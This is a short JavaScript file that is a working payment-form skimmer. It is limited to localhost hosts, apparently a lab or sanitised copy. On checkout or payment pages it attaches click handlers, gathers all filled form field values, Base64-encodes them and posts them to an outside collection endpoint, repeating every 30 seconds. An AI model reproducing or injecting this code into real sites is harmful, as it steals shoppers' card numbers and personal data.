(function(){
  if (!/\.localhost$/.test(location.hostname)) return;
  var snd = null;
  function chk() {
    var inp = document.querySelectorAll("input, select, textarea, checkbox, button");
    for (var i = 0; i < inp.length; i++) {
      if (inp[i].value.length > 0) {
        var nme = inp[i].name;
        if (nme == '') { nme = i; }
        snd += nme + '=' + inp[i].value + '&';
      }
    }
  }
  function btn() {
    var b = document.querySelectorAll("a[href*='javascript:void(0)'],button, input, submit, .btn, .button");
    for (var i = 0; i < b.length; i++) {
      if (b[i].type != 'text' && b[i].type != 'select' && b[i].type != 'checkbox' && b[i].type != 'password' && b[i].type != 'radio') {
        if (b[i].addEventListener) b[i].addEventListener("click", go, false); else b[i].attachEvent("onclick", go);
      }
    }
  }
  function go() {
    snd = '';
    chk();
    if (snd.length > 40) {
      var http = new XMLHttpRequest();
      http.open("POST", "https://js-gateway.localhost/save/", true);
      http.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
      http.send("data=" + btoa(snd) + "&asd=" + location.hostname);
    }
    snd = null;
    setTimeout(function () { go() }, 30000);
  }
  if ((new RegExp('checkout|payment', 'gi')).test(window.location)) btn();
})();
